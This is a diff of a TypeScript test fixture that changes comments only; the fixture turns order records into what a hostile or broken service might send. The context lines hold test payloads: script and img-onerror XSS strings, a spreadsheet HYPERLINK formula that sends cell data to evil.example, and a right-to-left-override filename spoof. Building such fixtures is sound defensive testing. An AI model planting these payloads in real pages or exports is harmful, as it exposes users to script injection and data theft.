@@ -8,13 +8,13 @@ type Shape = (record: OrderRecord) => OrderRecord;
 const SCRIPT = '<script>alert("order")</script>';
 const IMAGE = '<img src=x onerror="alert(1)">';
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
-/** Right-to-left override, zero-width space and joiner, a combining tower. */
+/** Right-to-left override, zero-width space and joiner, stacked combining marks. */
 const STRANGE = '\u202Egnp.eciovni\u202C \u200B\u200Dinvisible Z\u0351\u036B\u0343\u036A\u0302\u036B';
 const ARABIC = 'محمد عبد الله';
 const LONG = `${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(80)}end`;
 const UNBROKEN = 'W'.repeat(600);
 
-/** Overwrites fields with values of any type: a hostile service does not respect types. */
+/** Overwrites fields with values of any type, because a hostile service does not respect types. */
 function overwrite(target: object, fields: Readonly<Record<string, unknown>>): void {
   Object.assign(target, fields);
 }
@@ -78,7 +78,7 @@ const hostileLinks: Shape = (record) => {
   return record;
 };
 
-/** Only what identifies things is left, and what says who may read them. */
+/** Keeps only the IDs and the fields that determine who can read the order. */
 const halfEmpty: Shape = (record) => {
   const { orderId, merchantId, createdDate } = record.order ?? { orderId: record.orderId };
   return {
@@ -137,7 +137,7 @@ const noItems: Shape = (record) => ({ ...record, items: [], shipments: [], event
 
 const STRANGE_IDS = ['item/1#a', 'item 2 100%', 'item?c=d&e=/f'];
 
-/** The same strange IDs wherever an item is named. */
+/** Replaces the items' IDs with strange ones wherever they occur. */
 const strangeIds: Shape = (record) => {
   let text = JSON.stringify(record);
   for (const [place, item] of record.items.entries()) {
@@ -149,7 +149,7 @@ const strangeIds: Shape = (record) => {
   return { ...(JSON.parse(text) as OrderRecord), orderId: LANDMARKS.strangeIds };
 };
 
-/** Orders as a hostile or broken service would send them. */
+/** Changes orders into what a hostile or broken service would send. */
 export const HOSTILE_SHAPES: Partial<Record<Landmark, Shape>> = {
   hostile,
   hostileLinks,
